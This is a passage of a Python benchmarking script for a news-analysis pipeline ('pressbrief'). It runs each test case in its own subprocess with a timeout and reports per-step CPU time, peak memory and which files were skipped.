        mentions.offices(articles, sentences, found)
        done("mentions")
        named = naming(found)
        aimed = replace(subject, targets=mentions.targets(subject, actors, named))
        stance.build(aimed, articles, sentences, actors, named)
        done("stance")
        _timeline(made, articles, actors, named)
        done("timeline")
    read = dict.fromkeys(made["articles"]["file"], READ)
    skipped = zip(made["skipped"]["file"], made["skipped"]["reason"], strict=True)
    return read | {file: f"skipped: {why}" for file, why in skipped}


def _timeline(made: dict, articles, actors, named) -> None:
    from types import SimpleNamespace

    from pressbrief.sections import timeline_section

    known = {**made, "articles": articles, "actors": actors, "mentions": named}
    texts = dict(made["texts"].itertuples(index=False))
    list(timeline_section.build(SimpleNamespace(load=known.__getitem__, texts=texts)))


def _one(name: str) -> None:
    """One case at full size, as a line; in a process of its own."""
    import resource
    import tempfile
    import time

    case = next(one for one in cases() if one.name == name)
    with tempfile.TemporaryDirectory() as temporary:
        folder = Path(temporary) / "topic"
        folder.mkdir()
        lay(case, folder, 1_000_000)
        laps = [("", time.process_time())]
        found = taken(folder, True, lambda step: laps.append((step, time.process_time())))
    told = sorted({outcome[:60] for file, outcome in found.items() if file != "good.txt"})
    megabytes = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
    steps = [f"{step} {end - begin:5.1f} s" for (_, begin), (step, end) in itertools.pairwise(laps)]
    print(
        f"{case.name:40} {', '.join(steps)}, {megabytes} MB, {'; '.join(told)[:80]!r}", flush=True
    )


def _all(wanted: list[str]) -> None:
    import subprocess

    for one in cases():
        if not wanted or any(part in one.name for part in wanted):
            try:
                command = [sys.executable, __file__, "--one", one.name]
                failed = subprocess.run(command, timeout=600).returncode
            except subprocess.TimeoutExpired:
                failed = "no end in 600 s"
            if failed:
                print(f"{one.name:45} failed: {failed}", flush=True)


if __name__ == "__main__":
    if sys.argv[1:2] == ["--one"]:
        _one(sys.argv[2])
    else:
        _all(sys.argv[1:])
